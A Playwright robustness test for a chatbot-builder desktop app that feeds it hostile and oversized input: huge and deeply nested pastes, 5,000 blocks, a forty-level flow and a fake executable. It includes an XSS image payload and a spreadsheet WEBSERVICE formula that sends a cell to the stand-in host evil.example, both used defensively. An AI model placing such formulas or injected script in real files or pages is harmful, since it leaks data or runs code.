import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, type Page, test } from '@playwright/test'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import writeExcelFile from 'write-excel-file/node'
import { audit } from './audit.ts'
import { allSaved, card, emptyFolder, openWindow, resize, type Window } from './window.ts'

const LEVELS = 40
/** Levels gone down in the window. */
const SEEN = 6
const LANGUAGES = 200
const BLOCKS = 5000

/**
 * What no honest person makes, and some do: a clear message, nothing lost, and a window that answers. Renamed programs and
 * huge pictures are in media.spec.ts, wicked files of texts in texts.spec.ts, other clips in craft.spec.ts.
 */
test('wicked and huge things leave the window answering and the bot as it was', async () => {
  const errors: string[] = []
  const folder = emptyFolder()
  const window = await openWindow(folder, errors)
  await resize(window, 1280, 800)
  const { page } = window
  await page.emulateMedia({ reducedMotion: 'reduce' })
  await expect(card(page, 'Welcome')).toBeVisible()
  const before = await page.locator('.react-flow__node').count()

  await test.step('junk on the clipboard', () => junk(window))
  await expect(page.locator('.react-flow__node')).toHaveCount(before)
  await test.step('five thousand blocks', () => many(window))
  await expect(page.locator('.react-flow__node')).toHaveCount(before)
  await test.step('a workbook of formulas', () => formulas(page))
  await test.step('files that are no bots', () => refused(window, folder))
  await test.step('sub-flows forty levels deep, in two hundred languages', () => deep(window, folder))

  await allSaved(page)
  await window.app.close()
  expect(errors).toEqual([])
})

async function paste({ app, page }: Window, text: string): Promise<void> {
  await app.evaluate(({ clipboard }, words) => clipboard.writeText(words), text)
  await page.locator('.react-flow').focus()
  await page.keyboard.press('Control+v')
}

async function junk(window: Window): Promise<void> {
  const { page } = window
  const alert = page.getByRole('alert')
  const close = async () => {
    await page.getByRole('button', { name: 'Close' }).click()
    await expect(alert).toHaveCount(0)
  }
  await paste(window, 'x'.repeat(2_000_000))
  await expect(alert).toContainText('has 2000000 characters')
  await close()
  await paste(window, `{"parley":"clipboard","version":1,"records":${'['.repeat(100_000)}`)
  await expect(alert).toContainText('cannot be pasted')
  await close()
  await paste(window, '{"parley":"clipboard","version":7,"records":[{}]}')
  await expect(alert).toContainText('newer version')
  await close()
  await paste(window, ' \n\t ')
  await expect(page.getByRole('status').filter({ hasText: 'nothing on the clipboard' })).toBeVisible()
  await close()
  // Words of any kind are a message; signs and scripts stay signs.
  await paste(window, '<img src=x onerror=alert(1)>\u202e{{')
  await expect(page.locator('[data-selected="true"]').getByText('<img src=x')).toBeVisible()
  await page.keyboard.press('Control+z')
}

/** The window says what it is doing before it is busy, and answers again soon. */
async function many(window: Window): Promise<void> {
  const { page } = window
  const flow = 'flow_many'
  const blocks = Array.from({ length: BLOCKS }, (_, at) => ({
    ...{ id: `block_m${at}`, type: 'block', flow, kind: 'message', title: `Message ${at}` },
    ...{ x: (at % 70) * 320, y: Math.floor(at / 70) * 160, data: { text: { en: `Number ${at}` } } },
  }))
  const edges = blocks.slice(1).map(({ id }, at) => ({
    ...{ id: `edge_m${at}`, type: 'edge', flow, from: `block_m${at}`, port: 'next', to: id },
  }))
  const records = [{ id: flow, type: 'flow', name: 'Many', description: '' }, ...blocks, ...edges]
  await page.evaluate(() => {
    const watch = globalThis as unknown as { longest: number; last: number; told: boolean; watching: boolean }
    Object.assign(watch, { longest: 0, last: performance.now(), told: false, watching: true })
    const frame = (now: number) => {
      watch.longest = Math.max(watch.longest, now - watch.last)
      watch.last = now
      watch.told ||= document.body.textContent?.includes('Pasting…') ?? false
      if (watch.watching) requestAnimationFrame(frame)
    }
    requestAnimationFrame(frame)
  })
  await paste(window, JSON.stringify({ parley: 'clipboard', version: 1, records }))
  await expect(page.getByRole('heading', { name: `${BLOCKS} blocks` })).toBeVisible()
  await allSaved(page)
  const { longest, told } = await page.evaluate(() => {
    const watch = globalThis as unknown as { longest: number; told: boolean; watching: boolean }
    watch.watching = false
    return { longest: watch.longest, told: watch.told }
  })
  console.log(`while ${BLOCKS} blocks were pasted the window was still for ${Math.round(longest)} ms at most`)
  expect(told).toBe(true)
  expect(longest).toBeLessThan(4000)
  await page.keyboard.press('Control+z')
}

/** A workbook with a formula in it, as spreadsheet programs save it: with its last result. */
async function withFormula(rows: readonly (readonly string[])[]): Promise<Buffer> {
  const plain = await writeExcelFile(rows.map(row => row.map(value => ({ value })))).toBuffer()
  const parts = unzipSync(plain)
  const name = Object.keys(parts).find(part => part.startsWith('xl/worksheets/sheet')) ?? ''
  const sheet = strFromU8(parts[name] ?? new Uint8Array()).replace(
    '</row>',
    '<c r="C1"><f>WEBSERVICE("https://evil.example/"&amp;A1)</f><v>7</v></c></row>',
  )
  return Buffer.from(zipSync({ ...parts, [name]: strToU8(sheet) }))
}

async function formulas(page: Page): Promise<void> {
  await page.getByRole('tab', { name: 'Knowledge' }).click()
  const panel = page.getByRole('region', { name: 'Knowledge' })
  await panel.getByTitle('Questions & answers').click()
  await panel.getByRole('button', { name: 'Bring in a list' }).click()
  const dialog = page.getByRole('dialog', { name: 'Bring in questions and answers' })
  const choose = (buffer: Buffer) =>
    dialog.locator('input[type=file]').setInputFiles({ name: 'list.xlsx', mimeType: 'text/csv', buffer })
  await choose(await withFormula([['What does it cost?', 'From 9,90.']]))
  await expect(
    dialog.getByText('1 cell is a formula; its last result is taken', { exact: false }),
  ).toBeVisible()
  await expect(dialog.getByText('1 pair can be brought in.')).toBeVisible()
  await expect(dialog.getByLabel('List', { exact: true })).toHaveValue(/"7"$/)
  await audit(page, 'a list with formulas', '[role="dialog"]')
  // A large one is read beside the window, under its policy.
  const large = Array.from({ length: 6000 }, (_, at) => [
    `Is part ${at} in stock?`,
    `In ${at % 9} days, ${'very '.repeat(at % 20)}surely.`,
  ])
  await choose(await withFormula(large))
  await expect(dialog.getByText('6000 pairs can be brought in.')).toBeVisible({ timeout: 15_000 })
  await choose(Buffer.from('PK\u0003\u0004 this is no workbook'))
  await expect(dialog.getByText('The file could not be read.', { exact: false })).toBeVisible()
  await dialog.getByRole('button', { name: 'Cancel' }).click()
  await expect(dialog).toBeHidden()
}

async function refused(window: Window, folder: string): Promise<void> {
  const { page } = window
  const open = async (path: string, why: string) => {
    await answerDialogs(window, path)
    await page.keyboard.press('Control+Shift+o')
    await expect(page.getByRole('alert')).toContainText(why)
    await page.getByRole('button', { name: 'Close' }).click()
  }
  const program = join(folder, 'tea.parley')
  writeFileSync(program, 'MZ\u0090 This program cannot be run in DOS mode.')
  await open(program, 'tea.parley: ')
  await open(folder, 'is a folder')
}

async function deep(window: Window, folder: string): Promise<void> {
  const { page } = window
  const file = join(folder, 'deep.json')
  writeFileSync(file, JSON.stringify(deepBot()))
  await answerDialogs(window, file)
  await page.keyboard.press('Control+Shift+o')
  await expect(page.getByRole('button', { name: 'Deep', exact: true })).toBeVisible()
  await expect(card(page, 'Call 1')).toBeVisible()
  await expect(
    page.getByRole('contentinfo').getByRole('button', { name: `${LANGUAGES - 5} more languages` }),
  ).toBeVisible()
  // Down the chain by keyboard: the way up stays in the bar, however long it is.
  for (let level = 1; level <= SEEN; level += 1) {
    await card(page, `Call ${level}`).click()
    await page.keyboard.press('Alt+ArrowRight')
    await expect(card(page, `Call ${level + 1}`)).toBeVisible()
  }
  await audit(page, 'levels down', 'header')
  if (process.env.BAD_SHOTS) await page.screenshot({ path: `${process.env.BAD_SHOTS}/deep.png` })
  await page.getByRole('button', { name: 'Try it' }).click()
  await page.getByRole('textbox', { name: 'Message' }).fill('hi')
  await page.keyboard.press('Enter')
  // The most blocks of one turn are reached before the bottom is, and that is said.
  await expect(page.getByText(/Stopped at “.*”: 50 blocks ran/).first()).toBeVisible()
  if (process.env.BAD_SHOTS) await page.screenshot({ path: `${process.env.BAD_SHOTS}/talk.png` })
  await page.getByRole('button', { name: 'Texts', exact: true }).click()
  await expect(page.locator('[data-text-grid]')).toBeVisible()
  if (process.env.BAD_SHOTS) await page.screenshot({ path: `${process.env.BAD_SHOTS}/texts.png` })
}

const WORDS = 'Hello'

/** A chain of sub-flows, each of which greets in every language and calls the next. */
function deepBot() {
  const letter = (at: number) => String.fromCharCode(97 + (at % 26))
  const others = Array.from({ length: LANGUAGES - 1 }, (_, at) => `${letter(at / 26)}${letter(at)}x`)
  const locales = ['en', ...others]
  const text = Object.fromEntries(locales.map(locale => [locale, `${WORDS} ${locale}`]))
  const flows = Array.from({ length: LEVELS + 1 }, (_, at) => `flow_l${at}`)
  return {
    parley: 1,
    records: [
      {
        ...{ id: 'bot_deep', type: 'bot', name: 'Deep', description: '', locales, mainFlow: 'flow_l0' },
        ...{ mainMenu: null, country: null },
      },
      ...flows.flatMap((flow, at) => [
        { id: flow, type: 'flow', name: `Level ${at}`, description: '' },
        {
          ...{ id: `block_e${at}`, type: 'block', flow, kind: 'entry', title: '', x: 0, y: 0 },
          data: { trigger: at === 0 ? 'keyword' : 'call' },
        },
        {
          ...{ id: `block_c${at}`, type: 'block', flow, kind: at < LEVELS ? 'callFlow' : 'message' },
          ...{ title: at < LEVELS ? `Call ${at + 1}` : 'Bottom', x: 0, y: 200 },
          data: at < LEVELS ? { flow: flows[at + 1] } : { text },
        },
        { id: `edge_${at}`, type: 'edge', flow, from: `block_e${at}`, port: 'next', to: `block_c${at}` },
      ]),
      { id: 'kw_hi', type: 'keyword', text: 'hi', match: 'exact', locale: null, entry: 'block_e0' },
    ],
  }
}

/** The system's dialogs answer this path at once; nobody is there to click in them. */
async function answerDialogs({ app }: Window, path: string): Promise<void> {
  await app.evaluate(({ dialog: system }, answer) => {
    system.showOpenDialog = () => Promise.resolve({ canceled: false, filePaths: [answer] })
  }, path)
}
